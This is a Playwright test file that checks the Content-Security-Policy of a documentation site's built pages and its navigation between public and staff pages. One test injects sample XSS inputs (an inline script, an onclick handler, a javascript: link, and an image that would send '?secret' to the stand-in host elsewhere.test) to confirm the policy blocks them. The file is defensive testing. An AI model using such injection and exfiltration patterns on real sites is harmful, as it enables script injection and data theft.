import {readFileSync} from 'node:fs';
import path from 'node:path';
import {haveSession} from './support/haveSession';
import {SearchBox} from './support/SearchBox';
import {BUILD, builtFiles} from './support/site';
import {expect, hydrated, test} from './support/test';

// Every other test of this folder runs under the policy too: a violation is a console error, which fails it.

/**
 * Every fetch directive, and what browsers ask in its place where it is not there, before they ask `default-src`:
 * https://www.w3.org/TR/CSP3/#directive-fallback-list. `prefetch-src` is of older drafts.
 */
const FETCH_DIRECTIVES: Record<string, string[]> = {
  'child-src': [],
  'connect-src': [],
  'font-src': [],
  'frame-src': ['child-src'],
  'img-src': [],
  'manifest-src': [],
  'media-src': [],
  'object-src': [],
  'prefetch-src': [],
  'script-src': [],
  'script-src-attr': ['script-src'],
  'script-src-elem': ['script-src'],
  'style-src': [],
  'style-src-attr': ['style-src'],
  'style-src-elem': ['style-src'],
  'worker-src': [],
};
/** The only ones that `default-src` decides: pages ahead, and what frames and workers have directives of their own for. */
const MEANT_TO_BE_DEFAULT = ['child-src', 'prefetch-src'];

/** What decrypted scripts need is in the policies of staff pages alone. */
const isStaffPage = (file: string) => file.startsWith('docs/staff/');

test('every built page has a policy that names each thing a page may load, and lets no unknown script run @row-widget-no-scripts', () => {
  const pages = builtFiles().filter((file) => file.endsWith('.html'));
  expect(pages.length).toBeGreaterThan(15);
  expect(pages.filter(isStaffPage).length).toBeGreaterThan(8);
  for (const file of pages) {
    const html = readFileSync(path.join(BUILD, file), 'utf8');
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)?.[1] ?? '';
    const directives = new Map(
      policy.split('; ').map((line): [string, string[]] => {
        const [name = '', ...sources] = line.split(' ');
        return [name, sources];
      }),
    );
    expect(directives.get('default-src'), file).toEqual(["'self'"]);
    for (const name of ['font-src', 'frame-src', 'manifest-src', 'object-src']) {
      expect(directives.get(name), `${name} of ${file}`).toEqual(["'none'"]);
    }
    const left = Object.entries(FETCH_DIRECTIVES)
      .filter(([name, others]) => ![name, ...others].some((asked) => directives.has(asked)))
      .map(([name]) => name);
    expect(left, `what default-src decides in ${file}`).toEqual(MEANT_TO_BE_DEFAULT);
    const scripts = directives.get('script-src') ?? [];
    expect(scripts, file).toContain("'self'");
    expect(
      scripts.filter((source) => !/^('self'|'sha256-[\w+/=]+')$/.test(source)),
      file,
    ).toEqual(isStaffPage(file) ? ['blob:'] : []);
    expect(html.indexOf('Content-Security-Policy'), file).toBeLessThan(html.indexOf('<script'));
  }
});

test('what gets into a page does not run, and carries nothing away', async ({page, problems}) => {
  problems.expect(/Content Security Policy|elsewhere\.test/);
  let asked = false;
  await page.route('https://elsewhere.test/**', (route) => {
    asked = true;
    return route.abort();
  });
  await page.goto('/docs/shop');
  await hydrated(page);
  const pwned = () => page.evaluate(() => 'pwned' in window);

  await test.step('an inline script', async () => {
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.pwned = true';
      document.body.append(script);
    });
    expect(await pwned()).toBe(false);
  });

  await test.step('an event handler', async () => {
    await page.evaluate(() =>
      document.body.insertAdjacentHTML('beforeend', '<b id="b" onclick="pwned = true">b</b>'),
    );
    await page.locator('#b').dispatchEvent('click');
    expect(await pwned()).toBe(false);
  });

  await test.step('a javascript: link', async () => {
    await page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<a id="a" href="javascript:void(window.pwned = true)">a</a>',
      );
      document.getElementById('a')!.click();
    });
    await expect(page).toHaveURL('/docs/shop');
    expect(await pwned()).toBe(false);
  });

  await test.step('a picture that would carry data to another host', async () => {
    const loaded = await page.evaluate(
      () =>
        new Promise((resolve) => {
          const picture = new Image();
          picture.onload = () => resolve(true);
          picture.onerror = () => resolve(false);
          picture.src = 'https://elsewhere.test/?secret';
        }),
    );
    expect(loaded).toBe(false);
    expect(asked).toBe(false);
  });
});

test('public pages, which may not run what is decrypted, lead to staff pages as documents of their own, and back, and search them', async ({
  page,
}) => {
  const heading = (name: string) => page.getByRole('heading', {level: 1, name});
  const mark = () => page.evaluate(() => document.documentElement.setAttribute('data-same-document', ''));
  const marked = page.locator('html[data-same-document]');
  await haveSession(page);
  await page.goto('/docs/shop');
  await hydrated(page);
  await mark();

  await test.step('the search finds what stands there, and leads to it', async () => {
    const search = new SearchBox(page);
    await search.ask('look-back');
    const hit = search.options.filter({hasText: 'Grouping and look-back'}).first();
    await expect(hit).toBeVisible();
    await expect(marked).toHaveCount(1);
    await hit.click();
    await expect(page).toHaveURL('/docs/staff/severity-guide#grouping-and-look-back');
    await expect(page.locator('#grouping-and-look-back')).toBeInViewport();
    await expect(marked).toHaveCount(0);
  });

  await test.step('links and the history', async () => {
    await page.goto('/docs/shop');
    await hydrated(page);
    await mark();
    await page.locator('.navbar').getByRole('link', {name: 'Staff Portal'}).click();
    await expect(heading('Staff Portal')).toBeVisible();
    await expect(marked).toHaveCount(0);
    await mark();
    await page.locator('.theme-doc-sidebar-menu').getByRole('link', {name: 'Severity Guide'}).click();
    await expect(heading('Severity Guide')).toBeVisible();
    await page.goBack();
    await expect(heading('Staff Portal')).toBeVisible();
    await expect(marked).toHaveCount(1);
    await page.goBack();
    await expect(heading('Shop')).toBeVisible();
    await page.goForward();
    await expect(heading('Staff Portal')).toBeVisible();
  });
});
